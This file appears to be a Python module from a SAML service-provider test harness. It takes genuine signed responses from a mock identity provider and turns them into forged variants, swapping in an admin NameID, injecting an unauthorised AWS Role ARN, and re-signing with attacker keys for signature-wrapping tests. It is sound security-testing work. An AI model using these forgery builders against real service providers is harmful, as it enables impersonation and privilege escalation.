"""Where attacks are built: fresh baselines from the mock IdP, evil values, signing variants.

The mock IdP is reached through the small :class:`MockIdp` protocol (``idp.provider``'s
``IdentityProvider`` satisfies it), so this package imports nothing of ``idp`` beyond
``idp.saml``. Every baseline is issued at build time (current times, the target's audience and
recipient), its signatures are replaced by the layout the attack needs — signed with the IdP's
own key and code (:func:`idp.saml.signing.sign_element`) — and it is serialised once, as the IdP
does. Attacks then edit the bytes with :mod:`sp_fixtures.attacks.surgery`.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Any, Protocol

from lxml import etree

from idp.saml.builder import to_bytes
from idp.saml.constants import NS, AwsAttribute, DigestAlgorithm, SignatureAlgorithm, qname
from idp.saml.keys import KeyPair
from idp.saml.signing import sign_element
from idp.saml.xmlparse import parse_xml
from sp_fixtures.attacks.catalogue import Attack, Layout
from sp_fixtures.attacks.errors import GeneratorError
from sp_fixtures.attacks.surgery import Document, Node, Splice, delete, escape, set_text

EVIL_SUFFIX = ".attacker.invalid"
"""Appended to values the IdP signs for comment-injection attacks."""


class IssuedLike(Protocol):
    """What ``IdentityProvider.issue`` returns, as far as the generator needs it."""

    @property
    def xml(self) -> bytes:
        """Return the serialised, signed response."""
        ...


class MockIdp(Protocol):
    """The part of ``idp.provider.IdentityProvider`` the generator uses."""

    @property
    def signing_key(self) -> KeyPair:
        """Return the key that signs now."""
        ...

    def metadata(self, *, valid_until: dt.datetime | None = None) -> bytes:
        """Return the IdP metadata document."""
        ...

    def issue(
        self,
        user_name: str,
        *,
        sp: str = "aws",
        role_arn: str | None = None,
        recipient: str | None = None,
        in_response_to: str | None = None,
        now: dt.datetime | None = None,
        assertion_overrides: Mapping[str, Any] | None = None,
        response_overrides: Mapping[str, Any] | None = None,
    ) -> IssuedLike:
        """Build and sign a response for ``user_name``."""
        ...


@dataclass(frozen=True)
class Target:
    """Whom the attacks impersonate and which SP they are aimed at."""

    user: str
    """The directory user whose genuine response is the baseline."""
    sp: str = "aws"
    """The service provider registered in the IdP settings (its ACS and audience)."""
    role_arn: str | None = None
    """Keep only this role's pair in the genuine Role attribute (default: all of the user's)."""
    recipient: str | None = None
    """Recipient and Destination instead of the SP's ACS (e.g. the URL under test)."""
    audiences: tuple[str, ...] | None = None
    """Audience values instead of the SP's."""
    evil_name_id: str | None = None
    """The NameID an accepted attack would log in as (default: ``admin`` at the same domain)."""
    evil_role: str | None = None
    """A role ARN, or ``role,provider`` pair, the user does not have (default: ``role/Admin``)."""


@dataclass(frozen=True)
class Identity:
    """A NameID and a Role attribute value (``role-arn,provider-arn`` in either order)."""

    name_id: str
    role_pair: str | None

    @property
    def role_arn(self) -> str | None:
        """Return the role ARN of the pair."""
        return _pair_part(self.role_pair, ":role/")

    @property
    def provider_arn(self) -> str | None:
        """Return the SAML provider ARN of the pair."""
        return _pair_part(self.role_pair, ":saml-provider/")


def _pair_part(pair: str | None, marker: str) -> str | None:
    if pair is None:
        return None
    return next((part.strip() for part in pair.split(",") if marker in part), None)


@dataclass(frozen=True)
class Built:
    """What an attack builder returns: the documents, and what an accepting SP would see."""

    documents: tuple[bytes, ...]
    """Sent in order; every one but the last primes the SP (replay), the last is judged."""
    seen_if_accepted: Identity | None
    """The identity an SP reading the attacker's values would use; None for no evil value."""


Builder = Callable[["Workshop", Attack], Built]
BUILDERS: dict[str, Builder] = {}


def builder(*attack_ids: str) -> Callable[[Builder], Builder]:
    """Register a function as the builder of the given catalogue ids."""

    def register(function: Builder) -> Builder:
        for attack_id in attack_ids:
            if attack_id in BUILDERS:
                raise ValueError(f"two builders for {attack_id!r}")
            BUILDERS[attack_id] = function
        return function

    return register


TreeEdit = Callable[[etree._Element], None]


class Workshop:
    """Issue fresh baselines and give builders the pieces they combine."""

    def __init__(
        self,
        idp: MockIdp,
        target: Target,
        *,
        now: dt.datetime,
        canary_url: str,
        attacker_key: Callable[[], KeyPair],
        identities: tuple[Identity, Identity] | None = None,
    ) -> None:
        self.idp = idp
        self.target = target
        self.now = now
        self.canary_url = canary_url
        """Where out-of-band variants point (an SP that fetches it has a finding)."""
        self._attacker_key = attacker_key
        if identities is None:
            root = self._issue_tree()
            self.genuine = _genuine_identity(root, target.user)
            self.evil = _evil_identity(root, self.genuine, target)
        else:
            self.genuine, self.evil = identities

    @property
    def attacker_key(self) -> KeyPair:
        """Return a key pair no SP trusts (made once per generator)."""
        return self._attacker_key()

    # --- issuing ------------------------------------------------------------------------------

    def _issue_tree(
        self,
        *,
        recipient: str | None = None,
        assertion: Mapping[str, Any] | None = None,
        response: Mapping[str, Any] | None = None,
    ) -> etree._Element:
        overrides = dict(assertion or {})
        if self.target.audiences is not None and "audiences" not in overrides:
            overrides["audiences"] = self.target.audiences
        issued = self.idp.issue(
            self.target.user,
            sp=self.target.sp,
            role_arn=self.target.role_arn,
            recipient=recipient or self.target.recipient,
            now=self.now,
            assertion_overrides=overrides,
            response_overrides=response,
        )
        root = parse_xml(issued.xml)
        if root.find(qname(NS.SAML, "EncryptedAssertion")) is not None:
            raise GeneratorError(
                f"the IdP encrypts assertions for {self.target.sp!r}: attacks need the assertion "
                "in clear; aim them at a service provider without encryption"
            )
        for signature in list(root.iter(qname(NS.DS, "Signature"))):
            parent = signature.getparent()
            if parent is not None:
                parent.remove(signature)
        return root

    def issue(
        self,
        layout: Layout,
        *,
        evil: bool = False,
        edit: TreeEdit | None = None,
        key: KeyPair | None = None,
        algorithm: SignatureAlgorithm = SignatureAlgorithm.RSA_SHA256,
        digest: DigestAlgorithm | None = None,
        signer: TreeEdit | None = None,
        recipient: str | None = None,
        assertion: Mapping[str, Any] | None = None,
        response: Mapping[str, Any] | None = None,
    ) -> Document:
        """Issue a fresh response, optionally with evil values or edits, signed as ``layout``.

        ``signer`` replaces the signing step (it receives the Response); ``key`` signs with
        another key pair than the IdP's.
        """
        root = self._issue_tree(recipient=recipient, assertion=assertion, response=response)
        if evil:
            self.put_evil(root)
        if edit is not None:
            edit(root)
        if signer is not None:
            signer(root)
            return Document(to_bytes(root))
        pair = key or self.idp.signing_key
        found = root.find(qname(NS.SAML, "Assertion"))
        if found is None:
            raise GeneratorError("the IdP's response holds no assertion")
        if layout in ("assertion", "both"):
            sign_element(found, pair, algorithm=algorithm, digest=digest)
        if layout in ("response", "both"):
            sign_element(root, pair, algorithm=algorithm, digest=digest)
        return Document(to_bytes(root))

    def baseline(self, layout: Layout) -> Document:
        """Return the genuine response, freshly signed as ``layout``."""
        return self.issue(layout)

    # --- evil values --------------------------------------------------------------------------

    def put_evil(
        self, root: etree._Element, *, name_id: str | None = None, role_pair: str | None = None
    ) -> None:
        """Write the evil NameID and Role into an unsigned tree (only the evil pair is kept)."""
        element = root.find(f".//{qname(NS.SAML, 'Subject')}/{qname(NS.SAML, 'NameID')}")
        if element is not None:
            element.text = name_id or self.evil.name_id
        values = role_values(root)
        if values and (role_pair or self.evil.role_pair):
            values[0].text = role_pair or self.evil.role_pair
            for extra in values[1:]:
                parent = extra.getparent()
                if parent is not None:
                    parent.remove(extra)

    def evil_splices(
        self, doc: Document, assertion: Node, *, name_id: bool = True, role: bool = True
    ) -> list[Splice]:
        """Return the byte edits that put the evil values into ``assertion``."""
        splices: list[Splice] = []
        subject = assertion.child(NS.SAML, "Subject")
        element = subject.child(NS.SAML, "NameID") if subject is not None else None
        if name_id and element is not None:
            splices.append(set_text(element, escape(self.evil.name_id)))
        values = role_nodes(doc, assertion)
        if role and values and self.evil.role_pair is not None:
            splices.append(set_text(values[0], escape(self.evil.role_pair)))
            splices += [delete(extra) for extra in values[1:]]
        return splices

    def seen(self, attack: Attack) -> Identity | None:
        """Return what an SP accepting ``attack`` would see, from the catalogue's ``evil``."""
        if attack.evil == "none":
            return None
        name_id = self.evil.name_id if "name_id" in attack.evil else self.genuine.name_id
        role = self.evil.role_pair if "role" in attack.evil else self.genuine.role_pair
        return Identity(name_id, role)

    # --- byte-level pieces --------------------------------------------------------------------

    def clean_copy(self, doc: Document, node: Node, splices: list[Splice] | None = None) -> bytes:
        """Return ``node``'s bytes without its own Signature (the digest's view of it)."""
        edits = list(splices or [])
        signature = node.child(NS.DS, "Signature")
        if signature is not None:
            edits.append(delete(signature))
        return doc.render_node(node, edits)

    def evil_copy(
        self, doc: Document, assertion: Node, new_id: str | None, extra: list[Splice] | None = None
    ) -> bytes:
        """Return an unsigned copy of ``assertion`` with the evil values (and a new ID)."""
        edits = self.evil_splices(doc, assertion) + list(extra or [])
        if new_id is not None:
            edits.append(id_splice(assertion, new_id))
        return self.clean_copy(doc, assertion, edits)


def id_splice(node: Node, value: str) -> Splice:
    """Return the edit that sets ``node``'s ID attribute."""
    start, end = node.attributes["ID"]
    return Splice(start, end, escape(value))


def role_values(root: etree._Element) -> list[etree._Element]:
    """Return the AttributeValue elements of the Role attribute in ``root``'s tree."""
    return [
        value
        for attribute in root.iter(qname(NS.SAML, "Attribute"))
        if attribute.get("Name") == AwsAttribute.ROLE
        for value in attribute.iter(qname(NS.SAML, "AttributeValue"))
    ]


def role_nodes(doc: Document, assertion: Node) -> list[Node]:
    """Return the Role AttributeValue nodes inside ``assertion``."""
    return [
        value
        for attribute in assertion.descendants(NS.SAML, "Attribute")
        if "Name" in attribute.attributes and doc.attribute(attribute, "Name") == AwsAttribute.ROLE
        for value in attribute.children
        if value.is_(NS.SAML, "AttributeValue")
    ]


def _default_evil_name(genuine: str) -> str:
    user, at, domain = genuine.rpartition("@")
    candidate = f"admin@{domain}" if at else "admin"
    return candidate if candidate != genuine else f"root@{domain}" if at else "root"


def _swap(pair: str) -> str:
    return ",".join(reversed(pair.split(",")))


def _evil_pair(genuine: Identity, evil_role: str | None) -> str:
    role, provider = genuine.role_arn, genuine.provider_arn
    if role is None or provider is None:
        raise GeneratorError(f"cannot read the genuine Role value {genuine.role_pair!r}")
    if evil_role is not None and "," in evil_role:
        evil_role_arn = _pair_part(evil_role, ":role/")
        provider = _pair_part(evil_role, ":saml-provider/") or provider
        if evil_role_arn is None:
            raise GeneratorError(f"--evil-role {evil_role!r} names no role ARN")
    else:
        evil_role_arn = evil_role or role.rsplit(":role/", 1)[0] + ":role/Admin"
        if evil_role is None and evil_role_arn == role:
            evil_role_arn = role + "Admin"
    if ":role/" not in evil_role_arn:
        raise GeneratorError(f"the evil role {evil_role_arn!r} is not a role ARN")
    first_is_role = genuine.role_pair is not None and genuine.role_pair.split(",")[0] == role
    return f"{evil_role_arn},{provider}" if first_is_role else f"{provider},{evil_role_arn}"


def _genuine_identity(root: etree._Element, user: str) -> Identity:
    name_id = root.find(
        f"{qname(NS.SAML, 'Assertion')}/{qname(NS.SAML, 'Subject')}/{qname(NS.SAML, 'NameID')}"
    )
    if name_id is None or not name_id.text:
        raise GeneratorError(f"the IdP's response for {user!r} has no NameID")
    values = role_values(root)
    return Identity(name_id.text, values[0].text if values else None)


def _evil_identity(root: etree._Element, genuine: Identity, target: Target) -> Identity:
    name_id = target.evil_name_id or _default_evil_name(genuine.name_id)
    if name_id == genuine.name_id:
        raise GeneratorError(f"the evil NameID {name_id!r} is the genuine one")
    pair = None
    if genuine.role_pair is not None:
        pair = _evil_pair(genuine, target.evil_role)
        granted = {value.text for value in role_values(root)}
        if pair in granted or _swap(pair) in granted:
            raise GeneratorError(
                f"the evil role {pair!r} is one the user already has; choose another"
            )
    return Identity(name_id, pair)
